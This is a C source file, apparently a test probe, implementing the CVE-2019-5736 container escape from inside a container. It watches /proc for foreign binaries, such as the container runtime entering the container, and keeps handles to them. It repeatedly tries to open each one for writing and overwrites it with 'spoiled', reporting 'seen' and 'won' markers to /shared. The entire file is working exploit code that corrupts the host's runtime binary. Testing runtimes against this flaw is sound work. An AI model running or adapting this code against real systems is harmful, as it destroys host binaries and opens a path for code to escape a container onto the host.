// An attacker inside a container (CVE-2019-5736): finds each process that runs another program
// than its own, keeps a handle to that program's file, and tries to open it for writing until the
// process has gone. What it can open it spoils. Reports to /shared: "seen" when it got hold of
// a file, "won" when it could write to one.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

// The container's own programs.
static struct stat own, busybox;

static int is(const struct stat *one, const struct stat *other)
{
	return one->st_dev == other->st_dev && one->st_ino == other->st_ino;
}

static void report(const char *name)
{
	char path[64];
	snprintf(path, sizeof path, "/shared/%s", name);
	close(open(path, O_CREAT | O_WRONLY, 0644));
}

// While the program runs the file is busy: tries for 20 ms.
static void spoil(int handle)
{
	char path[64];
	struct timespec begin, now;
	snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			if (write(fd, "spoiled", 7) == 7)
				report("won");
			close(fd);
			return;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - begin.tv_sec) * 1000 + (now.tv_nsec - begin.tv_nsec) / 1000000 < 20);
}

static void look_at(const char *pid)
{
	char path[300];
	struct stat file;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int handle = open(path, O_PATH | O_CLOEXEC);
	if (handle < 0)
		return;
	if (!fstat(handle, &file) && !is(&file, &own) && !is(&file, &busybox)) {
		report("seen");
		spoil(handle);
	}
	close(handle);
}

int main(void)
{
	if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &busybox))
		return 1;
	report("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		for (struct dirent *entry; (entry = readdir(proc));)
			if (entry->d_name[0] > '0' && entry->d_name[0] <= '9')
				look_at(entry->d_name);
		closedir(proc);
	}
}
